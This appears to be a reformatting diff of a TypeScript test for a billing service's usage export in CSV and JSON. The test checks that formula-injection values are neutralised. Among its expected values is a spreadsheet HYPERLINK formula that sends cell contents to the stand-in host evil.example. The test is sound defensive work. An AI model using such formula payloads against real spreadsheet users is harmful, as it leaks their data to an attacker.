@@ -61,19 +61,36 @@ describe('usage export as CSV', () => {
     };
     const events = [
       {
-        specversion: '1.0', id: hostile.id, source: 'urn:example:nfs-agent', type: 'nfs.bytes_read', subject: tenant.tenantId, time,
+        specversion: '1.0',
+        id: hostile.id,
+        source: 'urn:example:nfs-agent',
+        type: 'nfs.bytes_read',
+        subject: tenant.tenantId,
+        time,
         data: { quantity: '42', unit: hostile.unit, resourceId: hostile.resourceId, site: hostile.site },
       },
       {
-        specversion: '1.0', id: 'plain-1', source: 'urn:example:nfs-agent', type: 'nfs.bytes_read', subject: tenant.tenantId, time,
+        specversion: '1.0',
+        id: 'plain-1',
+        source: 'urn:example:nfs-agent',
+        type: 'nfs.bytes_read',
+        subject: tenant.tenantId,
+        time,
         // Ids and resource ids may hold no control characters; free-form data may: a tab or CR first.
         data: { quantity: '7', unit: '\r=1+1', resourceId: 'plain-resource', site: '\t=1+1' },
       },
     ];
     expect((await gqlOk(t.url, billing, RECORD, { e: events })).recordUsage).toEqual({ accepted: 2, rejected: [] });
 
-    const query = { from: new Date(Date.parse(time) - HOUR).toISOString(), to: new Date(Date.parse(time) + HOUR).toISOString(), tenantId: tenant.tenantId };
-    const csv = await request(t.url).get('/usage/export').query({ ...query, format: 'csv' }).set('authorization', `Bearer ${billing}`);
+    const query = {
+      from: new Date(Date.parse(time) - HOUR).toISOString(),
+      to: new Date(Date.parse(time) + HOUR).toISOString(),
+      tenantId: tenant.tenantId,
+    };
+    const csv = await request(t.url)
+      .get('/usage/export')
+      .query({ ...query, format: 'csv' })
+      .set('authorization', `Bearer ${billing}`);
     expect(csv.status).toBe(200);
     const [header, ...rows] = parseCsv(csv.text);
     const records = rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])) as Record<string, string>);
@@ -87,19 +104,32 @@ describe('usage export as CSV', () => {
       quantity: '42',
       source: 'urn:example:nfs-agent',
     });
-    expect(byResource.get('plain-resource')).toMatchObject({ id: 'plain-1', resourceId: 'plain-resource', unit: "'\r=1+1", site: "'\t=1+1" });
+    expect(byResource.get('plain-resource')).toMatchObject({
+      id: 'plain-1',
+      resourceId: 'plain-resource',
+      unit: "'\r=1+1",
+      site: "'\t=1+1",
+    });
     // Each neutralised cell is quoted, the quote inside it: '"'=HYPERLINK(""…' on the wire.
     expect(csv.text).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""open"")"`);
     expect(csv.text).toContain(`"'-2+3"`);
     // The data column is JSON: it starts with { and carries the values as recorded.
     expect(JSON.parse(attack.data)).toMatchObject({ unit: hostile.unit, resourceId: hostile.resourceId, site: hostile.site });
 
-    const json = await request(t.url).get('/usage/export').query({ ...query, format: 'json' }).set('authorization', `Bearer ${billing}`).buffer(true).parse((res, cb) => {
-      let body = '';
-      res.on('data', (c: Buffer) => (body += c.toString()));
-      res.on('end', () => cb(null, body));
-    });
-    const exported = (json.body as string).trim().split('\n').map((l) => JSON.parse(l));
+    const json = await request(t.url)
+      .get('/usage/export')
+      .query({ ...query, format: 'json' })
+      .set('authorization', `Bearer ${billing}`)
+      .buffer(true)
+      .parse((res, cb) => {
+        let body = '';
+        res.on('data', (c: Buffer) => (body += c.toString()));
+        res.on('end', () => cb(null, body));
+      });
+    const exported = (json.body as string)
+      .trim()
+      .split('\n')
+      .map((l) => JSON.parse(l));
     const recorded = exported.find((e) => e.id === hostile.id);
     expect(recorded).toMatchObject({ id: hostile.id, data: { unit: hostile.unit, resourceId: hostile.resourceId, site: hostile.site } });
     expect(exported.find((e) => e.id === 'plain-1').data).toMatchObject({ unit: '\r=1+1', site: '\t=1+1' });
